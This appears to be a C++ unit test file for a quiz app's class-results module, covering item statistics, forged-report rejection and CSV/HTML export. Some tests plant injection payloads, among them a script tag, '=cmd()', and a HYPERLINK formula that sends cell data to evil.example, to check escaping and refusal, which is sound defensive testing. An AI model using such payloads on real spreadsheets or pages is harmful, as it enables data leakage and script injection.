// SPDX-FileCopyrightText: 2026 Checkpoint Quiz contributors
// SPDX-License-Identifier: MIT

#include "core/classroom/classreportwriter.h"
#include "core/quiz/questionbankwriter.h"
#include "core/report/jsonreportreader.h"
#include "core/report/jsonreportwriter.h"
#include "reportfixtures.h"

#include <QJsonArray>
#include <QJsonDocument>
#include <QTemporaryDir>
#include <QTest>

#include <cmath>
#include <functional>

using namespace Qt::StringLiterals;
using namespace ReportFixtures;

namespace {

const QList<int> Key{0, 1, 2, 3, 0, 1, 2, 3}; // the test bank's right options, 0-based

// A student's report of the test bank: `chosen` 0-based per question, -1 for none.
ScoreReport studentReport(const QuestionBank &bank, const QList<int> &chosen, int student, int minute = 0)
{
    ScoreReport report
        = ReportFixtures::report(bank, chosen, u"en"_s, {}, u"Student %1"_s.arg(student, 2, 10, QChar(u'0')));
    report.learnerId = u"s%1@example.org"_s.arg(student);
    report.attemptId = u"00000000-0000-4000-8000-%1"_s.arg(student * 100 + minute, 12, 10, QChar(u'0'));
    report.startedAt = at(9, minute);
    return report;
}

ClassResults::Input input(const ScoreReport &report, const QString &source)
{
    // Through the file format, as the command reads them.
    return {source, JsonReportReader::fromJson(JsonReportWriter::write(report), source)};
}

// Marks (1 right, 0 wrong) of the test bank's first questions as answers: right is the key, wrong the next option.
QList<int> answersFor(const QList<int> &marks)
{
    QList<int> chosen;
    for (qsizetype q = 0; q < Key.size(); ++q)
        chosen.append(q < marks.size() ? (marks.at(q) == 1 ? Key.at(q) : (Key.at(q) + 1) % 4) : Key.at(q));
    return chosen;
}

void compareNear(const std::optional<double> &actual, const QJsonValue &expected, const char *what)
{
    if (expected.isNull()) {
        QVERIFY2(!actual, what);
        return;
    }
    QVERIFY2(actual, what);
    QVERIFY2(std::abs(*actual - expected.toDouble()) < 1e-9,
             qPrintable(u"%1: %2, expected %3"_s.arg(QLatin1StringView(what))
                            .arg(*actual, 0, 'g', 17)
                            .arg(expected.toDouble(), 0, 'g', 17)));
}

} // namespace

Q_DECLARE_METATYPE(ClassResults::Which)

class TestClassResults : public QObject
{
    Q_OBJECT

private slots:
    void handComputed();
    void againstIndependentImplementation();
    void leftOutWithReasons();
    void forgedAgainstTheBank_data();
    void forgedAgainstTheBank();
    void whichAttemptCounts_data();
    void whichAttemptCounts();
    void versionsAreNeverMixed();
    void jsonKeys();
    void gradebookForMoodle();
    void htmlEscapesAndFlags();
    void classCsvGuardsEveryCell();
    void readingDropsTheChart();
};

// Five students, three questions, worked by hand (the marks go to ItemStatistics directly):
//   marks       Q1 Q2 Q3  total
//   S1           1  1  1   3
//   S2           1  1  0   2
//   S3           1  0  1   2
//   S4           0  1  0   1
//   S5           0  0  0   0
// Q1: mean .6, sample variance (3·.16 + 2·.36)/4 = .3; rest of the test 2,1,1,1,0 (mean 1, variance .5); covariance
// (.4·1 + .4·0 + .4·0 − .6·0 − .6·−1)/4 = .25; sorted the same way the covariance is also .25.
// Test: totals 3,2,2,1,0, mean 1.6, deviations 1.4 .4 .4 −.6 −1.6; Σd² 5.2, Σd³ −1.44, Σd⁴ 10.576; k2 = 1.3,
// k3 = 25·(−.288)/12 = −.6, k4 = 25·(6·2.1152 − 12·1.0816)/24 = −.3; the three variances sum to .9.
void TestClassResults::handComputed()
{
    const QList<QList<int>> marks{{1, 1, 1}, {1, 1, 0}, {1, 0, 1}, {0, 1, 0}, {0, 0, 0}};
    const QList<ItemStatistics::Question> questions = ItemStatistics::questions(marks);
    QCOMPARE(questions.size(), 3);
    const ItemStatistics::Question &q1 = questions.at(0);
    QCOMPARE(q1.facilityPercent, 60.0);
    QVERIFY(std::abs(*q1.standardDeviationPercent - 100 * std::sqrt(0.3)) < 1e-12);
    QVERIFY(std::abs(*q1.discriminationIndex - 100 * 0.25 / std::sqrt(0.3 * 0.5)) < 1e-12); // 64.55 %
    QVERIFY(std::abs(*q1.discriminativeEfficiency - 100.0) < 1e-12);
    QVERIFY(std::abs(questions.at(2).facilityPercent - 40.0) < 1e-12);

    const ItemStatistics::Test test = ItemStatistics::test(marks, questions);
    QCOMPARE(test.students, 5);
    QVERIFY(std::abs(test.meanPercent - 100 * 1.6 / 3) < 1e-12);
    QVERIFY(std::abs(test.medianPercent - 100 * 2.0 / 3) < 1e-12);
    QVERIFY(std::abs(*test.standardDeviationPercent - 100 * std::sqrt(1.3) / 3) < 1e-12);
    QVERIFY(std::abs(*test.skewness - (-0.6 / std::pow(1.3, 1.5))) < 1e-12); // −0.4048
    QVERIFY(std::abs(*test.kurtosis - (-0.3 / (1.3 * 1.3))) < 1e-12);        // −0.1775
    const double cic = 150 * (1 - 0.9 / 1.3);                                // 46.15 %
    QVERIFY(std::abs(*test.cic - cic) < 1e-12);
    QVERIFY(std::abs(*test.errorRatio - 100 * std::sqrt(1 - cic / 100)) < 1e-12);
    QVERIFY(std::abs(*test.standardErrorPercent - *test.errorRatio * 100 * std::sqrt(1.3) / 3 / 100) < 1e-12);

    // What Moodle cannot compute stays unknown: one student, or a question everyone got right.
    const QList<ItemStatistics::Question> one = ItemStatistics::questions({{1, 0}});
    QVERIFY(!one.at(0).standardDeviationPercent && !one.at(0).discriminationIndex);
    QVERIFY(!ItemStatistics::test({{1, 0}}, one).standardDeviationPercent);
    const QList<ItemStatistics::Question> same = ItemStatistics::questions({{1, 1}, {1, 0}, {1, 1}});
    QCOMPARE(same.at(0).facilityPercent, 100.0);
    QVERIFY(!same.at(0).discriminationIndex && !same.at(0).discriminativeEfficiency);
}

// 40 students generated with planted properties (tests/data/class/make_class.py), their statistics computed by that
// script with other formulas (Pearson's r, Cronbach's alpha, G1 and G2): the class view must agree to 1e-9.
void TestClassResults::againstIndependentImplementation()
{
    const QuestionBank bank = loadBank(testBankPath());
    QFile table(dataPath(u"class/class40.csv"_s));
    QVERIFY(table.open(QIODevice::ReadOnly));
    QList<ClassResults::Input> inputs;
    const QStringList lines = QString::fromUtf8(table.readAll()).split(u'\n', Qt::SkipEmptyParts);
    for (qsizetype s = 1; s < lines.size(); ++s) {
        QList<int> chosen;
        for (const QString &cell : lines.at(s).split(u',').mid(1))
            chosen.append(cell.isEmpty() ? -1 : cell.toInt() - 1);
        inputs.append(input(studentReport(bank, chosen, int(s)), u"s%1.json"_s.arg(s)));
    }
    const ClassResults results = ClassResults::collect(inputs, {}, {bank});
    QVERIFY(results.leftOut.isEmpty());
    QCOMPARE(results.students.size(), 40);

    QFile file(dataPath(u"class/class40-expected.json"_s));
    QVERIFY(file.open(QIODevice::ReadOnly));
    const QJsonObject expected = QJsonDocument::fromJson(file.readAll()).object();
    const QJsonArray questions = expected.value(u"questions"_s).toArray();
    QCOMPARE(results.questions.size(), questions.size());
    for (qsizetype q = 0; q < questions.size(); ++q) {
        const QJsonObject want = questions.at(q).toObject();
        const ClassResults::Question &got = results.questions.at(q);
        compareNear(got.statistics.facilityPercent, want.value(u"facility_index"_s), "facility");
        compareNear(got.statistics.standardDeviationPercent, want.value(u"standard_deviation"_s), "sd");
        compareNear(got.statistics.discriminationIndex, want.value(u"discrimination_index"_s), "discrimination");
        compareNear(got.statistics.discriminativeEfficiency, want.value(u"discriminative_efficiency"_s), "efficiency");
        const QJsonArray counts = want.value(u"options"_s).toArray();
        for (qsizetype o = 0; o < counts.size(); ++o)
            QCOMPARE(got.options.at(o).count, counts.at(o).toInt());
        QCOMPARE(got.unanswered, want.value(u"unanswered"_s).toInt());
    }
    const QJsonObject test = expected.value(u"test"_s).toObject();
    compareNear(results.test.meanPercent, test.value(u"mean"_s), "mean");
    compareNear(results.test.medianPercent, test.value(u"median"_s), "median");
    compareNear(results.test.standardDeviationPercent, test.value(u"standard_deviation"_s), "test sd");
    compareNear(results.test.skewness, test.value(u"skewness"_s), "skewness");
    compareNear(results.test.kurtosis, test.value(u"kurtosis"_s), "kurtosis");
    compareNear(results.test.cic, test.value(u"cic"_s), "cic");
    compareNear(results.test.errorRatio, test.value(u"error_ratio"_s), "error ratio");
    compareNear(results.test.standardErrorPercent, test.value(u"standard_error"_s), "standard error");

    // The planted properties show as Moodle's flags: too easy, too hard, negative discrimination, a low CIC.
    QVERIFY(results.questions.at(0).facilityFlagged());
    QVERIFY(results.questions.at(1).facilityFlagged());
    QVERIFY(results.questions.at(2).discriminationFlagged());
    QVERIFY(!results.questions.at(4).facilityFlagged() && !results.questions.at(4).discriminationFlagged());
    QVERIFY(results.cicFlagged());
    // Question 4's misconception: most wrong answers chose option 2, whose feedback the bank gives.
    const ClassResults::Option &crowded = results.questions.at(3).options.at(1);
    QCOMPARE(crowded.count, 23);
    QCOMPARE(crowded.sharePercent, 57.5);
    QCOMPARE(crowded.misconception, bank.questions.at(3).options.at(1).feedback.text(u"en"_s));
    QVERIFY(results.questions.at(3).options.at(3).correct);
    QVERIFY(results.questions.at(3).options.at(3).misconception.isEmpty());
}

// Bad input is listed with its reason and left out; the rest still counts.
void TestClassResults::leftOutWithReasons()
{
    const QuestionBank bank = loadBank(testBankPath());
    QList<ClassResults::Input> inputs;
    inputs.append(input(studentReport(bank, answersFor({1, 1, 1}), 1), u"good1.json"_s));
    inputs.append(input(studentReport(bank, answersFor({0, 1, 0}), 2), u"good2.json"_s));
    inputs.append({u"notes.json"_s, JsonReportReader::fromJson("{\"hello\": 1}", u"notes.json"_s)});
    QJsonObject edited = JsonReportWriter::toJson(studentReport(bank, answersFor({1, 1, 1}), 3));
    edited.insert(u"learner"_s, u"Somebody else"_s);
    inputs.append({u"edited.json"_s, JsonReportReader::fromJson(QJsonDocument(edited).toJson(), u"edited.json"_s)});
    ScoreReport retry = studentReport(bank, answersFor({1, 1, 1}), 4);
    retry.mode = ScoreReport::Mode::Retry;
    inputs.append(input(retry, u"retry.json"_s));
    ScoreReport future = studentReport(bank, answersFor({1, 1, 1}), 5);
    future.appVersion = u"99.0.0"_s;
    inputs.append(input(future, u"future.json"_s));
    inputs.append(input(studentReport(bank, answersFor({1, 1, 1}), 1), u"good1-copy.json"_s));

    const ClassResults results = ClassResults::collect(inputs, {}, {bank});
    QCOMPARE(results.students.size(), 2);
    QStringList reasons;
    for (const ClassResults::LeftOut &each : results.leftOut)
        reasons.append(each.source + u": "_s + each.reason);
    QCOMPARE(reasons.size(), 5);
    QVERIFY2(reasons.at(0).startsWith(u"notes.json: $: missing \"format\""_s), qPrintable(reasons.at(0)));
    QVERIFY2(reasons.at(1).startsWith(u"edited.json: $.digest: the report's content does not match its digest"_s),
             qPrintable(reasons.at(1)));
    QCOMPARE(reasons.at(2), u"retry.json: a retry of missed questions, not an attempt at the whole quiz"_s);
    QCOMPARE(reasons.at(3), u"future.json: written by Checkpoint Quiz 99.0.0, newer than this one (%1)"_s.arg(
                                QStringLiteral(CQ_VERSION)));
    QCOMPARE(reasons.at(4), u"good1-copy.json: the same attempt as good1.json, exported twice"_s);
}

// A report's digest is a plain SHA-256 that anyone can recompute, so a hand-in may name a known bank's version and list
// other questions (reliability-3 F1: 20 questions against the bank's 8 read past the bank and crashed). It is left out
// with the reason, before or after good reports, and the class is made of the rest.
using Forge = std::function<void(ScoreReport &)>;
Q_DECLARE_METATYPE(Forge)

void TestClassResults::forgedAgainstTheBank_data()
{
    QTest::addColumn<Forge>("forge");
    QTest::addColumn<QString>("reason");
    const auto extraQuestions = [](int count) {
        return [count](ScoreReport &report) {
            const ReportQuestion last = report.questions.constLast();
            for (int i = 0; i < count; ++i) {
                ReportQuestion copy = last;
                copy.number = int(report.questions.size()) + 1;
                copy.id = u"forged-%1"_s.arg(i);
                report.questions.append(copy);
            }
        };
    };
    QTest::newRow("20 questions for 8") << Forge(extraQuestions(12))
                                        << u"it lists 20 questions, but the quiz version it names has 8"_s;
    QTest::newRow("9 questions for 8") << Forge(extraQuestions(1))
                                       << u"it lists 9 questions, but the quiz version it names has 8"_s;
    QTest::newRow("7 questions for 8") << Forge([](ScoreReport &report) { report.questions.removeLast(); })
                                       << u"it lists 7 questions, but the quiz version it names has 8"_s;
    QTest::newRow("another question id") << Forge([](ScoreReport &report) {
        report.questions[2].id = u"mine"_s;
    }) << u"its question 3 is \"mine\", but the quiz version it names has \"sqrt-n\" there"_s;
    QTest::newRow("option past the question's")
        << Forge([](ScoreReport &report) { report.questions[1].chosenOption = 9; })
        << u"its answer to question 2 is option 10, but that question has 4 options"_s;
    QTest::newRow("another key") << Forge([](ScoreReport &report) {
        report.questions[0].correctOption = 3;
        report.questions[0].chosenOption = 3;
    }) << u"it gives option 4 as the key of question 1, but the quiz version it names has option 1"_s;
}

void TestClassResults::forgedAgainstTheBank()
{
    QFETCH(Forge, forge);
    QFETCH(QString, reason);
    const QuestionBank bank = loadBank(testBankPath());
    QCOMPARE(bank.questions.at(2).id, u"sqrt-n"_s);
    ScoreReport forged = studentReport(bank, answersFor({1, 1, 1}), 9);
    forge(forged);
    const ClassResults::Input forgedInput = input(forged, u"forged.json"_s);
    QVERIFY2(forgedInput.report, qPrintable(forgedInput.report.error())); // the reader alone cannot tell
    const ClassResults::Input good = input(studentReport(bank, answersFor({0, 1, 0}), 1), u"good.json"_s);

    for (const QList<ClassResults::Input> &inputs : {QList{forgedInput, good}, QList{good, forgedInput}}) {
        const ClassResults results = ClassResults::collect(inputs, {}, {bank});
        QCOMPARE(results.students.size(), 1);
        QCOMPARE(results.students.constFirst().source, u"good.json"_s);
        QCOMPARE(results.questions.size(), bank.questions.size());
        QCOMPARE(results.leftOut.size(), 1);
        QCOMPARE(results.leftOut.constFirst().source, u"forged.json"_s);
        QCOMPARE(results.leftOut.constFirst().reason, reason);
    }
    // Alone, it leaves an empty class rather than one built from it.
    const ClassResults alone = ClassResults::collect({forgedInput}, {}, {bank});
    QVERIFY(alone.students.isEmpty());
    QVERIFY(alone.questions.isEmpty());
    QVERIFY(alone.bankSha256.isEmpty());
    QCOMPARE(alone.leftOut.size(), 1);
}

void TestClassResults::whichAttemptCounts_data()
{
    QTest::addColumn<ClassResults::Which>("which");
    QTest::addColumn<QString>("counted");
    QTest::newRow("first") << ClassResults::Which::First << u"early.json"_s;
    QTest::newRow("best") << ClassResults::Which::Best << u"middle.json"_s;
    QTest::newRow("last") << ClassResults::Which::Last << u"late.json"_s;
}

void TestClassResults::whichAttemptCounts()
{
    QFETCH(ClassResults::Which, which);
    QFETCH(QString, counted);
    const QuestionBank bank = loadBank(testBankPath());
    // One student's three attempts, given out of order; the same person whatever the case of the e-mail address.
    ScoreReport late = studentReport(bank, answersFor({0, 1, 0}), 7, 50);
    ScoreReport early = studentReport(bank, answersFor({0, 0, 0}), 7, 10);
    ScoreReport middle = studentReport(bank, answersFor({1, 1, 1}), 7, 30);
    middle.learnerId = middle.learnerId.toUpper();
    const QList<ClassResults::Input> inputs{input(late, u"late.json"_s), input(early, u"early.json"_s),
                                            input(middle, u"middle.json"_s),
                                            input(studentReport(bank, answersFor({1, 0, 1}), 8), u"other.json"_s)};
    ClassResults::Options options;
    options.which = which;
    const ClassResults results = ClassResults::collect(inputs, options, {bank});
    QCOMPARE(results.students.size(), 2);
    QCOMPARE(results.students.at(0).source, counted);
    QCOMPARE(results.leftOut.size(), 2);
    for (const ClassResults::LeftOut &each : results.leftOut)
        QVERIFY(each.reason.startsWith(u"another attempt by the same student; %1 counts"_s.arg(counted)));
}

void TestClassResults::versionsAreNeverMixed()
{
    const QuestionBank bank = loadBank(testBankPath());
    QuestionBank edited = bank;
    edited.questions[0].stem = LocalizedText::single(u"en"_s, u"An edited stem"_s);
    ScoreReport other = ReportFixtures::report(edited, answersFor({1, 1, 1}), u"en"_s, {}, u"Late student"_s);
    other.attemptId = u"00000000-0000-4000-8000-999999999999"_s;
    const QList<ClassResults::Input> inputs{input(studentReport(bank, answersFor({1, 1, 1}), 1), u"a.json"_s),
                                            input(other, u"b.json"_s),
                                            input(studentReport(bank, answersFor({0, 1, 1}), 2), u"c.json"_s)};
    const ClassResults most = ClassResults::collect(inputs, {}, {bank});
    QCOMPARE(most.bankSha256, QuestionBankWriter::sha256(bank));
    QCOMPARE(most.students.size(), 2);
    QCOMPARE(most.leftOut.size(), 1);
    QCOMPARE(most.leftOut.at(0).source, u"b.json"_s);
    QVERIFY(most.leftOut.at(0).reason.startsWith(u"another version of the quiz ("_s));

    ClassResults::Options options;
    options.quizVersion = QuestionBankWriter::sha256(edited).left(8).toUpper();
    const ClassResults chosen = ClassResults::collect(inputs, options, {bank});
    QCOMPARE(chosen.students.size(), 1);
    QCOMPARE(chosen.students.at(0).name, u"Late student"_s);
    QCOMPARE(chosen.questions.at(0).stem, u"An edited stem"_s); // from the report: no bank has this digest
}

void TestClassResults::jsonKeys()
{
    const QuestionBank bank = loadBank(testBankPath());
    const ClassResults results
        = ClassResults::collect({input(studentReport(bank, answersFor({1, 1, 1}), 1), u"a.json"_s),
                                 input(studentReport(bank, answersFor({1, 0, 0}), 2), u"b.json"_s),
                                 input(studentReport(bank, answersFor({0, 0, 1}), 3), u"c.json"_s)},
                                {}, {bank});
    const QJsonObject json = ClassReportWriter::toJson(results);
    QCOMPARE(json.value(u"format"_s).toString(), u"checkpoint-quiz-class"_s);
    QCOMPARE(json.value(u"students"_s).toArray().size(), 3);
    const QJsonObject first = json.value(u"questions"_s).toArray().at(0).toObject();
    QCOMPARE(first.value(u"id"_s).toString(), bank.questions.at(0).id);
    QVERIFY(std::abs(first.value(u"facility_index"_s).toDouble() - 200.0 / 3) < 1e-12);
    for (const QString &key : {u"standard_deviation"_s, u"discrimination_index"_s, u"discriminative_efficiency"_s})
        QVERIFY2(first.contains(key), qPrintable(key));
    const QJsonArray options = first.value(u"options"_s).toArray();
    QCOMPARE(options.size(), 4);
    QCOMPARE(options.at(0).toObject().value(u"count"_s).toInt(), 2);
    QCOMPARE(options.at(1).toObject().value(u"count"_s).toInt(), 1);
    QCOMPARE(options.at(1).toObject().value(u"misconception"_s).toString(),
             bank.questions.at(0).options.at(1).feedback.text(u"en"_s));
    const QJsonObject test = json.value(u"test"_s).toObject();
    for (const QString &key : {u"cic"_s, u"error_ratio"_s, u"standard_error"_s, u"mean"_s, u"median"_s,
                               u"standard_deviation"_s, u"skewness"_s, u"kurtosis"_s})
        QVERIFY2(test.contains(key), qPrintable(key));
    QCOMPARE(test.value(u"students"_s).toInt(), 3);
}

// Moodle's grade import (Grades → Import → CSV file) maps an identifier column to a user field and each other column
// to a grade item or its feedback; the file has exactly one identifier, one grade and its feedback.
void TestClassResults::gradebookForMoodle()
{
    const QuestionBank bank = loadBank(testBankPath());
    ScoreReport noId = studentReport(bank, answersFor({1, 1, 1}), 3);
    noId.learnerId.clear();
    ScoreReport hostile = studentReport(bank, answersFor({1, 0, 1}), 4);
    hostile.learnerId = u"=cmd()@example.org"_s;
    const ClassResults results
        = ClassResults::collect({input(studentReport(bank, answersFor({1, 1, 1}), 1), u"a.json"_s),
                                 input(studentReport(bank, answersFor({0, 0, 0}), 2), u"b.json"_s),
                                 input(noId, u"c.json"_s), input(hostile, u"d.json"_s)},
                                {}, {bank});
    const ClassReportWriter::Gradebook book = ClassReportWriter::gradebook(results, u"en"_s);
    const QStringList lines = QString::fromUtf8(book.csv).split(u"\r\n"_s, Qt::SkipEmptyParts);
    QCOMPARE(lines.size(), 4);
    QVERIFY(!book.csv.startsWith("\xEF\xBB\xBF"));
    QCOMPARE(lines.at(0), u"Email address,%1,Feedback"_s.arg(bank.title.text(u"en"_s)));
    QCOMPARE(lines.at(1), u"s1@example.org,100.00,8 of 8 correct; Immediate feedback"_s);
    QCOMPARE(lines.at(2), u"s2@example.org,62.50,5 of 8 correct; Immediate feedback"_s);
    QCOMPARE(lines.at(3), u"'=cmd()@example.org,87.50,7 of 8 correct; Immediate feedback"_s);
    QCOMPARE(book.leftOut, QStringList{u"Student 03"_s});
}

void TestClassResults::htmlEscapesAndFlags()
{
    const QuestionBank bank = loadBank(testBankPath());
    ScoreReport hostile = studentReport(bank, answersFor({1, 1, 1}), 1);
    hostile.learnerName = u"<script>alert(1)</script>"_s;
    const ClassResults results = ClassResults::collect(
        {input(hostile, u"a.json"_s), input(studentReport(bank, answersFor({1, 1, 1}), 2), u"b.json"_s),
         input(studentReport(bank, answersFor({1, 1, 0}), 3), u"c.json"_s)},
        {}, {bank});
    const QString html = QString::fromUtf8(ClassReportWriter::html(results, u"en"_s));
    QVERIFY(!html.contains(u"<script>"_s));
    QVERIFY(html.contains(u"&lt;script&gt;alert(1)&lt;/script&gt;"_s));
    QVERIFY(html.contains(u"Facility index"_s));
    QVERIFY(html.contains(u"Worth a second look: facility outside 30–75%"_s)); // question 1: everyone right
    QVERIFY(html.contains(u"Why it is wrong: "_s
                          + bank.questions.at(2).options.at(3).feedback.text(u"en"_s).toHtmlEscaped()));
}

// reliability-3 F4: the class CSV wrote the attempt id unguarded. The reader now refuses an id that is not a UUID;
// the writer guards every cell whatever reached it.
void TestClassResults::classCsvGuardsEveryCell()
{
    const QuestionBank bank = loadBank(testBankPath());
    ScoreReport planted = studentReport(bank, answersFor({1, 0, 1}), 1);
    planted.attemptId = u"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"_s;
    planted.learnerName = u"@SUM(1,1)"_s;
    const ClassResults results = ClassResults::collect({{u"-planted.json"_s, planted}}, {}, {bank});
    QCOMPARE(results.students.size(), 1);
    const QString csv = QString::fromUtf8(ClassReportWriter::csv(results)).remove(QChar(0xFEFF));
    const QStringList lines = csv.split(u"\r\n"_s, Qt::SkipEmptyParts);
    QCOMPARE(lines.size(), 2);
    QVERIFY2(lines.at(1).startsWith(u"\"'@SUM(1,1)\",s1@example.org,'-planted.json,\"'=HYPERLINK("_s),
             qPrintable(lines.at(1)));
    // Through the file format, the reader refuses such an id before any writer sees it.
    const ClassResults::Input read = input(planted, u"planted.json"_s);
    QVERIFY(!read.report);
    QVERIFY2(read.report.error().contains(u"$.attemptId: expected a UUID"_s), qPrintable(read.report.error()));
}

// reliability-3 F13: a class keeps its reports' answers, not their chart images (up to 32 MiB each, never shown in a
// class view), and a cancelled reading returns what it has.
void TestClassResults::readingDropsTheChart()
{
    const QuestionBank bank = loadBank(testBankPath());
    ReportSimulatorSection simulator;
    simulator.figures.append({u"Peak"_s, u"12"_s});
    simulator.chartPng = QByteArray(100'000, 'p');
    QTemporaryDir dir;
    for (const QString &name : {u"a.json"_s, u"b.json"_s}) {
        QFile file(dir.filePath(name));
        QVERIFY(file.open(QIODevice::WriteOnly));
        file.write(JsonReportWriter::write(report(bank, partialAnswers(), u"en"_s, simulator)));
    }
    const QList<ClassResults::Input> inputs = ClassResults::read({dir.path()});
    QCOMPARE(inputs.size(), 2);
    for (const ClassResults::Input &input : inputs) {
        QVERIFY2(input.report, qPrintable(input.report.error()));
        QVERIFY(input.report->simulator.chartPng.isEmpty());
        QCOMPARE(input.report->simulator.figures.size(), 1);
    }
    const std::atomic_bool cancelled = true;
    QVERIFY(ClassResults::read({dir.path()}, &cancelled).isEmpty());
}

QTEST_GUILESS_MAIN(TestClassResults)
#include "tst_classresults.moc"
